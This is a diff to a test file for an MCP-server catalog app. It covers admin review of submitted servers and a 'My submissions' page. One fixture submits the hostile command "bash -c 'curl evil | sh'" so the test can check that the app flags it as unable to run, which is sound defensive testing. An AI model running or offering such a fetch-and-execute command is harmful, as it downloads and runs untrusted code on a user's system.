@@ -1,6 +1,6 @@
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { client, createTestApp, signedInUser, type Client, type TestApp } from "../../../../tests/support/app.js";
-import { ADMIN_TEXT, SUBMIT_TEXT, type AdminServer } from "../../../shared/catalog.js";
+import { ADMIN_TEXT, MY_SUBMISSIONS_TEXT, SUBMIT_TEXT, type AdminServer, type SubmissionLine } from "../../../shared/catalog.js";
 import { saveCapabilities } from "../deployments/repo.js";
 
 let t: TestApp;
@@ -104,6 +104,27 @@ describe("admin review", () => {
     expect(html.replace(/<!-- -->/g, "")).toContain("submitter (submitter@example.com)");
   });
 
+  it("shows what approving lets people run: the command, the keys it asks for, the transport, and a link to the entry's page", async () => {
+    const body = (await (await admin.get("/api/admin/mcp-servers?status=pending")).json()) as { data: AdminServer[] };
+    expect(body.data.find((s) => s.id === "postgresql-mcp")!.runs).toEqual({ command: "npx -y pg-mcp", repository: null, remote: null, transport: "stdio", reason: null });
+    const html = (await (await admin.get("/admin/mcp-servers")).text()).replace(/<!-- -->/g, "");
+    const card = html.slice(html.indexOf('data-server="postgresql-mcp"'));
+    expect(card).toContain(ADMIN_TEXT.whatRuns);
+    expect(card).toContain("npx -y pg-mcp");
+    expect(card).toContain("DATABASE_URL");
+    expect(card).toContain('href="/server/postgresql-mcp"');
+    // A repository to build, a publisher's URL, and what cannot run here say so too.
+    await user.post("/api/mcp-servers", { ...valid, id: "built", name: "Built", npx_command: "", required_keys: [] });
+    await user.post("/api/mcp-servers", { ...valid, id: "hosted", name: "Hosted", npx_command: "", repository_url: "", url: "https://mcp.example.com/sse", required_keys: [] });
+    await user.post("/api/mcp-servers", { ...valid, id: "shell", name: "Shell", npx_command: "bash -c 'curl evil | sh'", required_keys: [] });
+    const runs = Object.fromEntries(((await (await admin.get("/api/admin/mcp-servers?status=pending")).json()) as { data: AdminServer[] }).data.map((s) => [s.id, s.runs]));
+    expect(runs.built).toMatchObject({ command: null, repository: "https://github.com/example/pg-mcp", transport: "stdio", reason: null });
+    expect(runs.hosted).toMatchObject({ command: null, remote: "https://mcp.example.com/sse", transport: "sse" });
+    expect(runs.shell).toMatchObject({ command: "bash -c 'curl evil | sh'", transport: null });
+    expect(runs.shell!.reason).toMatch(/^This server's command cannot run here: /);
+    for (const id of ["built", "hosted", "shell"]) expect((await admin.del(`/api/admin/mcp-servers/${id}`)).status).toBe(200);
+  });
+
   it("moves pending -> approved -> pending, and rejects by deleting", async () => {
     // Searches are cached; every review decision must show at once.
     const found = async () =>
@@ -132,6 +153,40 @@ describe("admin review", () => {
     await gone.del(`/api/users/${gone.id}`, { confirmEmail: "gone@example.com" });
     const body = await (await admin.get("/api/admin/mcp-servers?status=pending")).json();
     expect(body.data.find((s: { id: string }) => s.id === "orphan").submitter).toEqual({ username: "Unknown", email: "Unknown" });
+  });
+});
+
+describe("My submissions", () => {
+  it("a submitter sees each of their submissions as pending, approved or rejected; nobody else's", async () => {
+    const sam = await signedInUser(t, "sam@example.com");
+    for (const id of ["sam-one", "sam-two", "sam-three"]) expect((await sam.post("/api/mcp-servers", { ...valid, id, name: id })).status).toBe(201);
+    expect((await admin.post("/api/admin/mcp-servers/sam-two/approve")).status).toBe(200);
+    expect((await admin.del("/api/admin/mcp-servers/sam-three")).status).toBe(200);
+    const mine = (await (await sam.get("/api/submissions")).json()) as SubmissionLine[];
+    const byId = Object.fromEntries(mine.map((l) => [l.id, l]));
+    expect(Object.keys(byId).sort()).toEqual(["sam-one", "sam-three", "sam-two"]);
+    expect(byId["sam-one"]).toMatchObject({ status: "pending", decided_at: null });
+    expect(byId["sam-two"]).toMatchObject({ status: "approved" });
+    expect(byId["sam-three"]).toMatchObject({ status: "rejected", name: "sam-three" });
+    expect(byId["sam-three"]!.decided_at).not.toBeNull();
+    // A rejected id is free again: submitted anew it is pending, and the old rejection stays listed.
+    expect((await sam.post("/api/mcp-servers", { ...valid, id: "sam-three", name: "sam-three" })).status).toBe(201);
+    const again = ((await (await sam.get("/api/submissions")).json()) as SubmissionLine[]).filter((l) => l.id === "sam-three").map((l) => l.status).sort();
+    expect(again).toEqual(["pending", "rejected"]);
+
+    // The page says the same; others see only their own; a visitor is sent to log in.
+    const page = (await (await sam.get("/submissions")).text()).replace(/<!-- -->/g, "");
+    expect(page).toContain(MY_SUBMISSIONS_TEXT.title);
+    for (const label of Object.values(MY_SUBMISSIONS_TEXT.status)) expect(page).toContain(label);
+    expect(page).toContain('href="/server/sam-two"');
+    const other = (await (await user.get("/api/submissions")).json()) as SubmissionLine[];
+    expect(other.some((l) => l.id.startsWith("sam-"))).toBe(false);
+    expect((await client(t.app).get("/api/submissions")).status).toBe(401);
+    const visitor = await client(t.app).get("/submissions");
+    expect(visitor.status).toBe(302);
+    expect(visitor.headers.get("location")).toBe("/login?redirect=/submissions");
+    const empty = await signedInUser(t, "newbie@example.com");
+    expect(await (await empty.get("/submissions")).text()).toContain(MY_SUBMISSIONS_TEXT.empty);
   });
 });
 
